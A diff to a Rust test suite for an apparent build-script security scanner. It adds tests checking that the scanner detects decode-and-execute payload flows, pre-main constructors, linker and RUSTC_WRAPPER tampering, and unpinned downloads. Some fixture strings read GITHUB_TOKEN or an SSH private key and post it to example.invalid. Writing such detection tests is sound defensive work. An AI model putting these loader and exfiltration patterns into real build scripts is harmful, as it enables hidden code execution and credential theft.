@@ -286,11 +286,12 @@ fn nothing_that_nests_or_chains_can_break_the_reader() {
         repeated("/*", "", "*/"),
         repeated("r#", "\"\"", "#"),
     ];
+    // A coarse bound that only what grows with the square exceeds: the machine may be busy.
     for text in texts {
         let began = Instant::now();
         let facts = build(&text);
         let shown = text.chars().take(60).collect::<String>();
-        assert!(began.elapsed() < Duration::from_secs(5), "{shown}: {:?}", began.elapsed());
+        assert!(began.elapsed() < Duration::from_mins(1), "{shown}: {:?}", began.elapsed());
         assert!(facts.unparsed.len() <= 1, "{shown}");
     }
 }
@@ -329,10 +330,217 @@ fn what_the_limits_let_pass_fits_the_stack() {
 #[test]
 fn a_source_of_50_megabytes_is_a_fact_and_takes_no_time() {
     let mut text = "fn main() { std::process::Command::new(\"sh\"); ".to_owned();
-    text.push_str(&"x(1);".repeat(10 << 20));
+    text.push_str(&"12345678, ".repeat(5 << 20));
     let began = Instant::now();
     let facts = build(&text);
-    assert!(began.elapsed() < Duration::from_secs(20), "{:?}", began.elapsed());
+    assert!(began.elapsed() < Duration::from_mins(1), "{:?}", began.elapsed());
     assert!(facts.unparsed[0].reason.contains("too many"));
     assert!(names(&facts).contains("shell"));
+}
+
+fn flow_of(facts: &CodeFacts) -> Vec<String> {
+    let kinds = |flow: &Flow| {
+        let kinds = flow.steps.iter().map(|step| format!("{:?}", step.kind).to_lowercase());
+        kinds.collect::<Vec<_>>().join(" ")
+    };
+    facts.flows.iter().map(kinds).collect()
+}
+
+#[test]
+fn data_that_is_read_decoded_and_run_is_one_flow() {
+    let spellings = [
+        // In place, by a key.
+        "use std::{env, fs}; fn main() { let mut data = fs::read(\"tests/a.bin\").unwrap();
+         for b in data.iter_mut() { *b ^= 0x5a; } let out = format!(\"{}/x\", env::var(\"OUT_DIR\").unwrap());
+         fs::write(&out, &data).unwrap(); std::process::Command::new(&out).status(); }",
+        // Mapped.
+        "fn main() { let data: Vec<u8> = include_bytes!(\"tests/a.bin\").iter().map(|b| b ^ 7).collect();
+         let p = std::path::Path::new(\"out\").join(\"x\"); std::fs::write(&p, data); std::process::Command::new(p).spawn(); }",
+        // By index, through helpers.
+        "fn load() -> Vec<u8> { std::fs::read(\"tests/a.bin\").unwrap() }
+         fn unmix(data: &mut Vec<u8>) { for i in 0..data.len() { data[i] ^= 3; } }
+         fn store(path: &str, data: &[u8]) { std::fs::write(path, data).unwrap(); std::process::Command::new(path).spawn(); }
+         fn main() { let mut d = load(); unmix(&mut d); store(\"/tmp/x\", &d); }",
+        // Decompressed, as streams.
+        "use std::{fs::File, io}; fn main() { let f = File::open(\"tests/a.xz\").unwrap();
+         let mut r = xz2::read::XzDecoder::new(f); let mut w = File::create(\"/tmp/x\").unwrap();
+         io::copy(&mut r, &mut w).unwrap(); std::process::Command::new(\"/tmp/x\").spawn(); }",
+        // Read into a buffer.
+        "use std::io::{Read, Write}; fn main() { let mut f = std::fs::File::open(\"a\").unwrap(); let mut b = Vec::new();
+         f.read_to_end(&mut b).unwrap(); let d = hex::decode(&b).unwrap(); let p = \"/tmp/x\";
+         let mut o = std::fs::File::create(p).unwrap(); o.write_all(&d).unwrap(); std::process::Command::new(p).spawn(); }",
+        // base64, loaded instead of started.
+        "use base64::{Engine as _, engine::general_purpose::STANDARD as S}; fn main() {
+         let t = std::fs::read_to_string(\"a.txt\").unwrap(); let d = S.decode(t).unwrap();
+         std::fs::write(\"/tmp/x.so\", d); unsafe { libloading::Library::new(\"/tmp/x.so\") }; }",
+        // Linked.
+        "fn main() { let d = std::fs::read(\"a\").unwrap(); let mut v = Vec::new(); for b in d { v.push(b ^ 1); }
+         let out = std::env::var(\"OUT_DIR\").unwrap(); std::fs::write(format!(\"{out}/libx.a\"), v).unwrap();
+         println!(\"cargo:rustc-link-search=native={out}\"); println!(\"cargo:rustc-link-lib=static=x\"); }",
+    ];
+    for text in spellings {
+        let facts = build(text);
+        assert!(
+            facts.flows.iter().any(|f| f.decoded && f.executed && f.source == StepKind::Read),
+            "{text}\n{:?}",
+            flow_of(&facts)
+        );
+    }
+}
+
+#[test]
+fn copying_and_hashing_are_no_decoding() {
+    for text in [
+        "fn main() { let d = std::fs::read(\"a\").unwrap(); let out = std::env::var(\"OUT_DIR\").unwrap();
+         std::fs::write(format!(\"{out}/a\"), d).unwrap(); }",
+        "fn main() { let d = std::fs::read(\"a\").unwrap(); let mut h = 5u64; for b in &d { h ^= *b as u64; h = h.wrapping_mul(31); }
+         std::fs::write(std::path::Path::new(&std::env::var(\"OUT_DIR\").unwrap()).join(\"h\"), h.to_string()); }",
+        "fn main() { std::fs::copy(\"src/ffi.rs\", format!(\"{}/ffi.rs\", std::env::var(\"OUT_DIR\").unwrap())); }",
+        "fn main() { let x = 1 ^ 2; std::process::Command::new(\"rustc\").arg(format!(\"{x}\")).status(); }",
+    ] {
+        assert_eq!(flow_of(&build(text)), [""; 0], "{text}");
+    }
+}
+
+#[test]
+fn a_payload_in_a_literal_is_measured_and_followed() {
+    let bytes = format!("{:?}", (0..600u32).map(|i| (i * 7 + i / 3) % 256).collect::<Vec<_>>());
+    let text = format!(
+        "static P: &[u8] = &{bytes}; fn main() {{ let d: Vec<u8> = P.iter().map(|b| b ^ 9).collect();
+         std::fs::write(\"/tmp/x\", d); std::process::Command::new(\"/tmp/x\").spawn(); }}"
+    );
+    let facts = build(&text);
+    assert_eq!((facts.literals[0].form, facts.literals[0].size), (LiteralForm::Bytes, 600));
+    assert!(facts.flows.iter().any(|f| f.source == StepKind::Literal && f.executed), "{facts:?}");
+    let script = "IyEvYmluL3NoCmVjaG8gaGVsbG8K".repeat(14);
+    let facts = build(&format!("const S: &str = \"{script}\"; fn main() {{}}"));
+    assert_eq!(facts.literals[0].magic, "script");
+    let words = "const W: &[&str] = &[\"aarch64_unknown_linux_gnu\", \"armv7\"]; fn main() {}";
+    assert_eq!(build(&words.replace("\"armv7\"", &"\"armv7l_unknown\",".repeat(60))).literals, []);
+}
+
+#[test]
+fn a_pinned_digest_is_told_from_a_cache_key() {
+    let digest = "6934874e2e953576d9c1db47ff1af39c62c4f4220dbe6f988e131f72879674c7";
+    let pinned = format!(
+        "use sha2::{{Digest, Sha256}}; const D: &str = \"{digest}\"; fn main() {{
+         let body = ureq::get(\"https://example.invalid/a.tgz\").call().unwrap().into_string().unwrap();
+         let got = hex::encode(Sha256::digest(&body)); if got != D {{ panic!() }} std::fs::write(\"x\", body); }}"
+    );
+    let verification = |text: &str| build(text).downloads.map(|d| d.verification);
+    assert_eq!(verification(&pinned), Some(Verification::PinnedDigest));
+    let streamed = format!(
+        "use sha2::Digest; fn main() {{ let body = reqwest::blocking::get(\"https://example.invalid/a\").unwrap().bytes().unwrap();
+         let mut h = sha2::Sha256::new(); h.update(&body); assert_eq!(format!(\"{{:x}}\", h.finalize()), \"{digest}\"); }}"
+    );
+    assert_eq!(verification(&streamed), Some(Verification::PinnedDigest));
+    let key = format!(
+        "use sha2::Digest; fn main() {{ let url = std::env::var(\"X_URL\").unwrap(); let k = sha2::Sha256::digest(&url);
+         let dir = std::path::Path::new(\"c\").join(format!(\"{{:x}}\", k)); if !dir.exists() {{
+         let b = ureq::get(&url).call().unwrap(); std::fs::write(dir, b); }} let unused = \"{digest}\"; }}"
+    );
+    assert_eq!(verification(&key), Some(Verification::CacheKeyOnly));
+    let none = "fn main() { let b = ureq::get(\"https://example.invalid/a\").call().unwrap(); std::fs::write(\"x\", b); }";
+    assert_eq!(verification(none), Some(Verification::None));
+    assert_eq!(verification("fn main() { let u = \"https://example.invalid\"; }"), None);
+}
+
+#[test]
+fn a_digest_in_an_included_table_counts_as_pinned() {
+    let table_file = format!("url\tsha256\nhttps://example.invalid/a\t{}\n", "ab".repeat(32));
+    let facts = read_files(
+        &[
+            ("build/main.rs", "mod get; fn main() { let t = include_str!(\"dist.tsv\"); let (u, d) = t.split_once('\\t').unwrap();
+              let (got, _) = get::fetch(u); if got[..] != get::bytes(d)[..] { panic!() } }"),
+            ("build/get.rs", "use sha2::{Digest, Sha256}; pub struct R { state: Sha256 }
+              impl R { fn end(self) -> [u8; 32] { self.state.finalize().into() } }
+              pub fn bytes(d: &str) -> Vec<u8> { d.bytes().collect() }
+              pub fn fetch(u: &str) -> ([u8; 32], ()) { let b = ureq::get(u).call().unwrap(); let r = R { state: Sha256::new() }; (r.end(), ()) }"),
+            ("build/dist.tsv", &table_file),
+        ],
+        "build/main.rs",
+    );
+    let downloads = facts.downloads.expect("one");
+    assert_eq!(downloads.verification, Verification::PinnedDigest, "{:?}", downloads.evidence);
+    assert!(downloads.evidence.iter().any(|place| place.note.contains("dist.tsv")));
+}
+
+#[test]
+fn reads_are_named_however_the_path_is_joined() {
+    let facts = build(
+        "use std::path::{Path, PathBuf}; fn main() {
+         let root = PathBuf::from(std::env::var(\"CARGO_MANIFEST_DIR\").unwrap());
+         std::fs::read(root.join(\"tests\").join(\"files\").join(\"a.xz\"));
+         std::fs::read(Path::new(env!(\"CARGO_MANIFEST_DIR\")).join(\"b.bin\"));
+         let mut c = root.clone(); c.push(\"c.bin\"); std::fs::File::open(&c);
+         include_bytes!(concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/d.bin\"));
+         for e in walkdir::WalkDir::new(\"tests\") {} for g in glob::glob(\"data/*.lzma\").unwrap() {}
+         std::fs::read(\"../other/e.bin\"); std::fs::read(format!(\"{}/f.bin\", root.display()));
+         println!(\"cargo::rerun-if-changed=g.bin\"); }",
+    );
+    let paths: Vec<_> = facts.reads.iter().map(|r| r.path.as_str()).collect();
+    for wanted in
+        ["tests/files/a.xz", "b.bin", "c.bin", "d.bin", "tests", "data/*.lzma", "f.bin", "g.bin"]
+    {
+        assert!(paths.contains(&wanted), "{wanted} in {paths:?}");
+    }
+    assert!(facts.reads.iter().any(|r| r.path == "../other/e.bin" && r.beyond));
+    assert!(facts.reads.iter().filter(|r| r.beyond).count() == 1, "{:?}", facts.reads);
+}
+
+#[test]
+fn secrets_that_leave_are_one_flow() {
+    let facts = build(
+        "fn main() { let t = std::env::var(\"GITHUB_TOKEN\").unwrap();
+         ureq::post(\"https://example.invalid/c\").send_string(&t).ok(); }",
+    );
+    assert!(facts.flows.iter().any(|f| f.source == StepKind::Secret && f.sink == StepKind::Send));
+    let facts = build(
+        "fn main() { let t = std::fs::read_to_string(\"/root/.ssh/id_rsa\").unwrap();
+         let c = reqwest::blocking::Client::new(); c.post(\"https://example.invalid\").body(t).send(); }",
+    );
+    assert!(facts.flows.iter().any(|f| f.source == StepKind::Secret && f.sink == StepKind::Send));
+}
+
+#[test]
+fn early_constructors_and_generated_code_are_marked() {
+    let early = build(
+        "#[ctor::ctor] fn a() {} #[used] #[link_section = \".init_array\"] static B: fn() = a;
+         #[unsafe(link_section = \"__DATA,__mod_init_func\")] static C: fn() = a; fn main() {}",
+    );
+    let hits = early.capabilities.iter().filter(|h| h.capability == Capability::PreMain).count();
+    assert_eq!(hits, 3, "{:?}", early.capabilities);
+    let generated = build("fn main() { let _ = quote! { std::process::Command::new(\"sh\") }; }");
+    assert_eq!(names(&generated), BTreeSet::new());
+    assert!(generated.capabilities.iter().all(|hit| hit.generated));
+    assert!(!generated.capabilities.is_empty());
+}
+
+#[test]
+fn a_write_outside_of_out_dir_and_linker_arguments_are_seen() {
+    let facts = build(
+        "fn main() { std::fs::write(\"src/bindings.rs\", \"x\"); println!(\"cargo:rustc-link-arg=-Wl,x\");
+         println!(\"cargo::rustc-env=RUSTC_WRAPPER=/tmp/x\"); }",
+    );
+    for wanted in ["write-outside-out-dir", "link-argument", "rustc-wrapper"] {
+        assert!(names(&facts).contains(wanted), "{wanted}");
+    }
+    let inside = build(
+        "fn out() -> std::path::PathBuf { std::env::var_os(\"OUT_DIR\").unwrap().into() }
+         fn main() { std::fs::write(out().join(\"b.rs\"), \"x\"); std::fs::create_dir_all(out()); }",
+    );
+    assert_eq!(names(&inside), BTreeSet::new());
+}
+
+#[test]
+fn every_truncation_of_a_build_script_is_read() {
+    let text = "use std::{env, fs}; mod a { pub fn f() {} } fn main() { let x = format!(\"{}/é\", env::var(\"A\").unwrap());
+                fs::write(&x, include_bytes!(\"b\")).ok(); if x == \"c\" { a::f(); } }";
+    for end in 0..text.len() {
+        let facts = scan("build.rs", &text.as_bytes()[..end], table(), true);
+        assert!(facts.files.is_empty());
+        let sources = Sources::from([("build.rs".to_owned(), &text.as_bytes()[..end])]);
+        let entry = Entry { roots: vec!["build.rs".to_owned()], ..Entry::default() };
+        assert!(read(&sources, &entry, table()).unparsed.len() <= 1);
+    }
 }
